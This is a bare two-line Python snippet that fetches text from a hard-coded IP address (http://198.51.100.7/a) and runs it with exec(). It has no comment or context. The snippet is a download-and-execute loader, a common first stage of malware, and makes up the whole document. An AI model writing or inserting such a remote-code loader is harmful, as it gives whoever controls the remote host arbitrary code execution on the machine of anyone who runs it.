import requests
exec(requests.get('http://198.51.100.7/a').text)
